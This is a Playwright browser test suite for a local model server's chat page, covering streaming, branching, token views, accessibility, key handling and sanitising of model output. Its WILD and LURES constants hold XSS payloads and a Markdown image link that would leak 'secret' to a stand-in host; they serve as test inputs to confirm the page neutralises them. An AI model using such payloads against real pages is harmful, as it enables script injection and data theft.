"""The page in a real Chromium: what people do with it, and what a model, a server or a network may do to it."""
from __future__ import annotations

import json
import re
import shutil
import socket
import subprocess
import sys
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest

import pellucid
from pellucid.api import Model
from pellucid.serve.keys import Checked, Keys
from tests.api.scripted import scripted_model
from tests.api.test_adapters import turning
from tests.cli.conftest import environment

from .conftest import ABC, Running

pytestmark = pytest.mark.browser
WILD = "<script>window.ran=1</script><img src=x onerror=window.ran=1><b onclick=window.ran=1>bold</b>"
LURES = "\n\n![look](http://elsewhere.example/p.png?said=secret) [here](javascript:window.ran=1) [there](http://elsewhere.example/)\n\n"
Open = Callable[..., Any]


@pytest.fixture(scope="module")
def browser() -> Iterator[Any]:
    from playwright.sync_api import sync_playwright

    from .tabs import HERE
    with sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=shutil.which("chromium"), args=HERE)
        yield browser
        browser.close()


@pytest.fixture
def tab(browser: Any, server: Running) -> Iterator[Open]:
    """Opens tabs. Whatever a test does, no request goes to anybody but the server, and the console stays empty."""
    from .tabs import Tab
    tabs: list[Tab] = []

    def opened(url: str = server.url, **context: Any) -> Tab:
        tabs.append(Tab(browser, url, **context))
        return tabs[-1]
    yield opened
    found = [(each.strangers(), each.complaints) for each in tabs]
    for each in tabs:
        each.close()
    assert found == [([], [])] * len(tabs)


@pytest.fixture(scope="module")
def told(serve: Callable[..., Running], tmp_path_factory: pytest.TempPathFactory) -> Running:
    """Models that say what they are told to: markup, a lot, and one that nobody can talk to."""
    from .tabs import saying
    folder = tmp_path_factory.mktemp("models")
    models = {"wild": saying(folder / "wild", [WILD, LURES, "```js\nlet a = 1;\n```", "\n\n**done**"]),
              "long": saying(folder / "long", ["on ", "and ", "..."], n_ctx=20_000),
              "bare": scripted_model(folder / "bare", [ABC], template=None)}
    loaded = {name: pellucid.load(path) for name, path in models.items()}
    loaded["bare"].load_adapter("to-z", turning(folder / "to-z", "b", "z"))
    return serve(**loaded)


def words(text: str) -> list[str]:
    """Without what Markdown may take away."""
    return re.findall("[A-Za-z]+", text)


def choose(tab: Any, model: str) -> None:
    tab.find("#model").select_option(model)


def test_a_conversation_streams_is_kept_and_is_what_the_api_says(tab: Open, server: Running) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.settings(system="Be brief.", seed="7", max_tokens="24")
    first = t.ask("What do you see?")
    asked: dict[str, Any] = dict(model="shipped", temperature=0.8, top_p=0.95, max_tokens=24)
    messages = [{"role": "system", "content": "Be brief."}, {"role": "user", "content": "What do you see?"}]
    answer = server.post("/v1/chat/completions", **asked, seed=7, messages=messages)["choices"][0]["message"]["content"]
    assert words(first.inner_text()) == words(answer)
    expect(t.find(".message.assistant .facts")).to_contain_text("24 tokens")
    expect(t.find(".message.assistant .facts")).to_contain_text("tokens/s")
    expect(t.find(".message.assistant .facts")).to_contain_text("first after")
    second = t.ask("And then?")  # with all that went before
    messages += [{"role": "assistant", "content": answer}, {"role": "user", "content": "And then?"}]
    assert words(second.inner_text()) == words(server.post("/v1/chat/completions", **asked, seed=7, messages=messages)["choices"][0]["message"]["content"])
    t.page.reload()
    t.find(".side .title").click()
    expect(t.answers).to_have_count(2)
    assert words(t.answers.first.inner_text()) == words(answer)


def test_another_answer_and_an_edit_are_branches_and_arrows_go_between_them(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.settings(max_tokens="8")
    first = t.ask("One").inner_text()
    t.button("Another answer (r)").click()
    expect(t.find(".message.assistant .count")).to_have_text("2/2")
    t.whole()
    second = t.answers.inner_text()
    assert second != first  # another seed, twenty-odd bits of choice
    t.button("Earlier version", ".message.assistant").click()
    assert t.answers.inner_text() == first
    t.button("Edit and ask again (e)").click()
    t.find(".editor").fill("Two")
    t.find(".editor").press("Enter")
    expect(t.find(".message.user .count")).to_have_text("2/2")
    t.whole()
    expect(t.find(".message.user .content")).to_have_text("Two")
    t.button("Earlier version", ".message.user").click()
    expect(t.find(".message.user .content")).to_have_text("One")
    assert t.answers.inner_text() == first
    t.page.keyboard.press("]")
    assert t.answers.inner_text() == second


def test_escape_stops_an_answer_and_frees_the_server(tab: Open, told: Running) -> None:
    from playwright.sync_api import expect
    t = tab(told.url)
    choose(t, "long")
    t.say("Go on")
    expect(t.answers).to_contain_text("on and on")
    expect(t.button("Stop")).to_be_visible()
    t.page.keyboard.press("Escape")
    t.whole()
    expect(t.find(".message.assistant .facts")).to_contain_text("stopped by you")
    text = t.answers.inner_text()
    assert 3 < len(text) < 20_000
    assert told.post("/v1/completions", model="long", prompt="xy", max_tokens=4)["choices"][0]["finish_reason"] == "stop"  # whose turn has come
    assert told.served.find("long")[1].n_under_way == 0


def test_an_answer_of_a_schema_is_json_of_that_schema(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.find("[data-name=settings]").click()
    t.find("#set-format").select_option("schema")
    t.find("#set-schema").fill("{nonsense")
    expect(t.find(".panel")).to_contain_text("The schema is not JSON")
    t.button("Yes or no").click()
    t.button("Close (Esc)").click()
    expect(t.find(".chip")).to_have_text("JSON schema")
    assert json.loads(t.ask("Is it day?").inner_text())["answer"] in ("yes", "no")
    expect(t.find(".message.assistant .facts")).to_contain_text("valid JSON")
    t.settings(schema='{"type": "object", "properties": {"a": {"$ref": "http://elsewhere.example/s"}}}')
    t.ask("And now?")
    expect(t.find(".message.assistant .error")).to_contain_text("$ref")  # what cannot be enforced is refused, in the server's words


def test_a_token_tells_its_probability_and_what_else_might_have_stood_there(tab: Open, server: Running, shipped: Model) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.settings(seed="3", max_tokens="12")
    t.ask("What do you see?")
    told = server.post("/v1/chat/completions", model="shipped", temperature=0.8, top_p=0.95, seed=3, max_tokens=12, logprobs=True, top_logprobs=5,
                       messages=[{"role": "user", "content": "What do you see?"}])["choices"][0]["logprobs"]["content"]
    t.button("Surprise").click()
    tokens = t.find(".message.assistant .token")
    expect(tokens).to_have_count(12)
    shades = [round(-one["logprob"] / 0.6931471805599453, 6) for one in told]
    assert [int(each.get_attribute("class").split(" s")[1][0]) for each in tokens.all()] == [min(9, int(bits)) for bits in shades]
    tokens.nth(4).hover()
    card = t.find(".card")
    expect(card).to_be_visible()
    expect(card).to_contain_text(f"id {told[4]['token_id']}")
    expect(card).to_contain_text(f"{shades[4]:.1f} bits")
    rows = [row.inner_text().split("\n")[0] for row in card.locator(".odd").all()]
    wanted = [other["token"].replace(" ", "·").replace("\n", "↵") for other in told[4]["top_logprobs"]]
    assert rows[:5] == wanted
    tokens.nth(4).focus()
    t.page.keyboard.press("ArrowRight")
    expect(card).to_contain_text(f"id {told[5]['token_id']}")
    # Another token, and the answer goes on from there: what a completion of exactly those ids says
    other = next(one for one in told[5]["top_logprobs"] if one["token_id"] != told[5]["token_id"])
    card.locator("button.odd").first.click()
    expect(t.find(".message.assistant .count")).to_have_text("2/2")
    t.whole()
    prompt = shipped.chat_prompt_ids([{"role": "user", "content": "What do you see?"}]) + [one["token_id"] for one in told[:5]] + [other["token_id"]]
    text = server.post("/v1/completions", model="shipped", prompt=prompt, temperature=0.8, top_p=0.95, seed=3, max_tokens=12)["choices"][0]["text"]
    t.button("Text").click()
    begun = "".join(one["token"] for one in told[:5]) + other["token"]
    assert words(t.answers.inner_text()) == words(begun + text)


def test_the_prompt_is_shown_with_its_special_tokens(tab: Open, abc: Model) -> None:
    from playwright.sync_api import expect
    t = tab()
    choose(t, "abc")
    t.find("#message").fill("Hi ü")
    t.find("[data-name=prompt]").click()
    ids = abc.chat_prompt_ids([{"role": "user", "content": "Hi ü"}])
    shown = t.find(".exact .token")
    expect(shown).to_have_count(len(ids))
    expect(t.find(".exact .special")).to_have_text(["<|im_start|>", "<|im_end|>", "<|im_start|>"])
    assert "".join(each.text_content() for each in shown.all()).replace("↵", "") == abc.tokenizer.decode(ids, special=True)
    expect(t.find(".panel")).to_contain_text(f"{len(ids)} tokens of {abc.engine.capacity} that")


def test_the_model_tells_its_family_license_weights_and_lineage(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.find("[data-name=model].tab").click()
    report = t.find(".report")
    for said in ("llama", "Apache-2.0", "7.21 M", "bf16", "apache-2.0 (README.md)", "None lies beside these weights"):
        expect(report).to_contain_text(said)


def test_a_model_without_a_chat_template_continues_a_text_and_adapters_are_chosen_by_name(tab: Open, told: Running) -> None:
    from playwright.sync_api import expect
    t = tab(told.url)
    choose(t, "bare")
    expect(t.find(".welcome")).to_contain_text("no chat template")
    expect(t.button("Chat", ".composer")).to_be_disabled()
    assert t.ask("a").inner_text() == "bcdefghijkl"
    expect(t.find("#model option")).to_contain_text(["wild", "long", "bare", "to-z (adapter of bare)"])
    t.find("#model").select_option("to-z")
    t.button("Another answer (r)").click()
    expect(t.answers).to_have_text("bz")


def test_a_text_goes_on_by_as_much_as_before(tab: Open) -> None:
    """Also where its bytes would no longer fit the context, and its tokens do."""
    from playwright.sync_api import expect
    t = tab()
    t.button("Continue text").click()
    t.ask("It was a dark night, and")
    facts = t.find(".message.assistant .facts")
    expect(facts).to_contain_text("200 tokens")
    t.ask("")
    expect(facts.last).to_contain_text("200 tokens")
    assert len(t.find(".column").inner_text().encode()) > 1024 - 200


LEFT = "e => e.scrollHeight - e.scrollTop - e.clientHeight"  # of the conversation, below what is seen


def test_who_reads_the_end_stays_there_whatever_takes_room_and_who_reads_above_stays_above(tab: Open, told: Running) -> None:
    from playwright.sync_api import expect
    t = tab(told.url)
    choose(t, "long")
    thread = t.find("#thread")
    t.settings(max_tokens="900")
    t.ask("What goes on?")
    facts = t.find(".message.assistant .facts").last
    expect(facts).to_be_in_viewport(ratio=1)
    t.find("[data-name=settings]").click()  # narrower lines, so that there are more of them
    expect(facts).to_be_in_viewport(ratio=1)
    assert thread.evaluate(LEFT) < 2
    t.find("#set-max_tokens").fill("30000")
    t.say("More than the context holds")
    expect(t.find(".message .error")).to_contain_text("together 3")
    expect(t.find(".message .error")).to_be_in_viewport(ratio=1)
    expect(t.find(".message.assistant .facts").last).to_be_in_viewport(ratio=1)
    thread.evaluate("e => e.scrollTo(0, 100)")
    t.page.wait_for_function("document.querySelector('#thread').scrollTop === 100")
    t.button("Surprise").click()
    expect(t.find(".token").first).to_be_visible()
    assert thread.evaluate("e => e.scrollTop") < 400
    assert thread.evaluate(LEFT) > 400


def test_a_short_answer_is_seen_from_its_beginning_in_every_view(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.settings(max_tokens="100", seed="1")
    t.page.set_viewport_size({"width": 1280, "height": 700})
    t.ask("Who is there?")
    assert t.find("#thread").evaluate("e => e.scrollHeight === e.clientHeight")
    t.page.set_viewport_size({"width": 1280, "height": 420})
    t.find("#thread").evaluate("e => e.scrollTo(0, 0)")
    t.button("Surprise").click()
    expect(t.find(".legend")).to_be_in_viewport()


def test_markup_that_a_model_writes_is_shown_and_does_nothing(tab: Open, told: Running) -> None:
    from playwright.sync_api import expect
    t = tab(told.url)
    choose(t, "wild")
    answer = t.ask("Write a page")
    expect(answer).to_contain_text(WILD)
    expect(answer.locator("strong")).to_have_text("done")
    expect(answer.locator("pre code")).to_have_text("let a = 1;\n")
    expect(answer).to_contain_text("[image: look: http://elsewhere.example/p.png?said=secret]")
    assert answer.locator("script, img, b, [onclick], [onerror]").count() == 0
    assert [link.get_attribute("href") for link in answer.locator("a").all() if link.get_attribute("href")] == ["http://elsewhere.example/"]
    t.button("Tokens").click()
    expect(t.find(".message.assistant .token").first).to_have_text(WILD)
    assert t.page.evaluate("window.ran") is None


def test_the_browser_itself_lets_nothing_out_and_runs_nothing_inline(browser: Any, server: Running) -> None:
    """Were the page to try: another address, an inline script, a text as markup."""
    from .tabs import Tab
    t = Tab(browser, server.url)
    with socket.create_server(("127.0.0.1", 0)) as elsewhere:
        elsewhere.setblocking(False)
        where = f"http://127.0.0.1:{elsewhere.getsockname()[1]}/"
        assert "Failed to fetch" in t.page.evaluate("(where) => fetch(where).then(() => 'sent', (error) => String(error))", where)
        t.page.evaluate("(where) => new Promise((done) => { const image = new Image(); image.onerror = done; image.src = where; })", where)
        with pytest.raises(BlockingIOError):
            elsewhere.accept()  # nobody came
    caught = "() => {{ try {{ {} }} catch (error) {{ return error.name }} }}".format
    assert t.page.evaluate(caught("document.body.innerHTML = '<b>x</b>'")) == "TypeError"
    script = caught("const s = document.createElement('script'); document.body.append(s); s.textContent = 'window.ran = 1'")
    assert t.page.evaluate(script) == "TypeError"
    assert t.page.evaluate("window.ran") is None
    assert len([said for said in t.complaints if "Content Security Policy" in said or "TrustedHTML" in said]) >= 3
    t.close()


def test_a_phone_has_all_of_it_on_its_screen(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab(viewport={"width": 375, "height": 667}, has_touch=True, is_mobile=True)
    t.settings(max_tokens="16")
    t.ask("What do you see from the window of the long house on the hill?")
    assert t.page.evaluate("document.documentElement.scrollWidth <= innerWidth && document.body.scrollHeight <= innerHeight")
    expect(t.find(".side")).not_to_be_visible()
    t.button("Conversations").tap()
    expect(t.find(".side .title")).to_be_visible()
    t.find(".scrim").tap(position={"x": 360, "y": 300})
    expect(t.find(".side")).not_to_be_visible()
    t.button("Tokens").tap()
    t.find(".message.assistant .token").nth(3).tap()
    box = t.find(".card").bounding_box()
    assert box["x"] >= 0
    assert box["x"] + box["width"] <= 375
    assert box["y"] + box["height"] <= 667
    sizes = t.page.evaluate("[...document.querySelectorAll('.head button, .composer button, .foot button')].filter((b) => b.offsetParent)"
                            ".map((b) => [b.ariaLabel || b.textContent, Math.min(b.offsetWidth, b.offsetHeight)])")
    assert len(sizes) > 8
    assert [(name, size) for name, size in sizes if size < 24] == []  # WCAG 2.2's least size of what is touched


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_it_is_light_or_dark_as_the_system_is_and_a_switch_says_otherwise(tab: Open, scheme: str) -> None:
    t = tab(color_scheme=scheme)

    def bright() -> bool:
        return sum(map(int, t.page.evaluate("getComputedStyle(document.body).backgroundColor").removeprefix("rgb(").rstrip(")").split(","))) > 3 * 128
    seen = []
    for _ in range(4):  # as the system, light, dark, as the system
        seen.append(bright())
        t.find("[data-name=theme]").click()
    assert seen == [scheme == "light", True, False, scheme == "light"]
    t.find("[data-name=theme]").click()
    t.page.reload()
    t.find(".welcome").wait_for()
    assert not bright()  # remembered


def test_every_control_has_a_name_and_every_text_is_legible(tab: Open) -> None:
    """Contrast as WCAG 2.2 counts it, 4.5 for text, in both schemes."""
    for scheme in ("light", "dark"):
        t = tab(color_scheme=scheme)
        t.settings(max_tokens="8")
        t.ask("Hello")
        t.find("[data-name=settings]").click()
        t.find("#system").wait_for()
        assert t.page.evaluate("[...document.querySelectorAll('button, input, textarea, select')]"
                               ".filter((c) => !(c.ariaLabel || c.textContent.trim() || c.labels?.length)).map((c) => c.outerHTML)") == []
        told = t.page.evaluate((Path(__file__).parent / "contrast.js").read_text("utf8"))
        assert told["read"] > 30
        assert told["faint"] == []


def test_all_of_it_is_done_by_keys(tab: Open) -> None:
    from playwright.sync_api import expect
    t = tab()
    t.settings(max_tokens="8")
    t.ask("Hello")
    press = t.page.keyboard.press
    press("Escape")
    t.find(".thread").focus()
    press("v")
    expect(t.button("Tokens")).to_have_attribute("aria-pressed", "true")
    press("p")
    expect(t.find(".exact")).to_be_visible()
    press("Escape")
    expect(t.find(".panel")).not_to_be_visible()
    press("?")
    expect(t.find("dialog.help")).to_be_visible()
    press("Escape")
    press("r")
    expect(t.find(".message.assistant .count")).to_have_text("2/2")
    t.whole()
    press("e")
    expect(t.find(".editor")).to_be_focused()
    press("Escape")
    press("n")
    expect(t.find(".welcome")).to_be_visible()
    expect(t.find("#message")).to_be_focused()
    t.page.keyboard.type("a")
    press("Shift+Enter")
    t.page.keyboard.type("b")
    expect(t.find("#message")).to_have_value("a\nb")
    press("Tab")
    assert t.page.evaluate("getComputedStyle(document.activeElement).outlineStyle") == "solid"  # what has the focus shows it


def test_conversations_leave_and_come_back_as_files(tab: Open, tmp_path: Path) -> None:
    from playwright.sync_api import expect
    t = tab()
    choose(t, "abc")
    answer = t.ask("Hello there").inner_text()
    t.find(".side li").hover()
    with t.page.expect_download() as markdown:
        t.button("Export Hello there as Markdown").click()
    text = Path(markdown.value.path()).read_text("utf8")
    assert markdown.value.suggested_filename == "hello-there.md"
    assert text.startswith("# Hello there\n\n**You**\n\nHello there\n\n**Model**\n\nYES\n\n*abc · temperature 0.8 · top_p 0.95 · seed ")
    with t.page.expect_download() as whole:
        t.button("Export all").click()
    file = tmp_path / "all.json"
    whole.value.save_as(file)
    other = tab()
    other.find("input[type=file]").set_input_files(file)
    expect(other.answers).to_have_count(1)
    assert other.answers.inner_text() == answer
    (tmp_path / "no.json").write_text("[]")
    other.find("input[type=file]").set_input_files(tmp_path / "no.json")
    expect(other.find(".side .error")).to_contain_text("not an export of this page")


def test_a_server_with_keys_is_asked_with_the_key_of_this_tab(browser: Any, serve: Callable[..., Running], abc: Model, tmp_path: Path,
                                                             monkeypatch: pytest.MonkeyPatch) -> None:
    from playwright.sync_api import expect

    from .tabs import Tab
    monkeypatch.setattr("pellucid.serve.door.NEW_SECONDS", 0.0)
    keys = Keys(f"sqlite:///{tmp_path}/keys.db")
    _, key = keys.add("alice")
    t = Tab(browser, serve(keys=Checked(keys), abc=abc).url)
    t.find("#key").fill("pk-wrong")
    t.button("Open").click()
    expect(t.find("dialog .error")).to_contain_text("not known here")
    t.find("#key").fill(key)
    t.button("Open").click()
    expect(t.find(".welcome")).to_contain_text("abc")
    assert t.ask("Hello").inner_text() == "YES"
    assert t.page.evaluate("JSON.stringify([sessionStorage.length, Object.values(localStorage).some((v) => v.includes('pk-'))])") == "[1,false]"
    keys.revoke("alice")
    monkeypatch.setattr("pellucid.serve.door.FRESH_SECONDS", 0.0)
    t.say("Again")
    expect(t.find("dialog .error")).to_contain_text("revoked")
    assert t.strangers() == []
    t.close()


def test_a_server_that_dies_within_an_answer_is_told_and_its_return_is_noticed(tab: Open, told: Running, tmp_path: Path) -> None:
    from playwright.sync_api import expect
    folder = told.served.find("long")[1].model.settings["path"]

    def started(port: int) -> tuple[Any, str]:
        process = subprocess.Popen([sys.executable, "-m", "pellucid", "serve", f"long={folder}", "--port", str(port), "--json", "--quiet"],
                                   stdout=subprocess.PIPE, text=True, env=environment(tmp_path), cwd=Path(pellucid.__file__).parent.parent)
        return process, json.loads(process.stdout.readline())["url"].removesuffix("/v1")
    process, url = started(0)
    t = tab(url)
    try:
        t.say("Go on")
        expect(t.answers).to_contain_text("on and on")
        process.kill()
        expect(t.find(".message .error")).to_contain_text("This answer is not whole. The connection broke")
        expect(t.find(".banner")).to_contain_text("does not answer")
        assert t.answers.inner_text().startswith("on and on")  # what came is kept
        process.wait()
        process.stdout.close()
        process, _ = started(int(url.rsplit(":", 1)[1]))
        expect(t.find(".banner")).not_to_be_visible()
        t.button("Try again").click()
        expect(t.answers).to_contain_text("on and on")
        t.page.keyboard.press("Escape")
        expect(t.find(".message.assistant .count")).to_have_text("2/2")
    finally:
        process.kill()
        process.wait()
        process.stdout.close()
    assert all("net::ERR_" in said for said in t.complaints)  # what the browser itself says of a server that is not there
    t.complaints.clear()
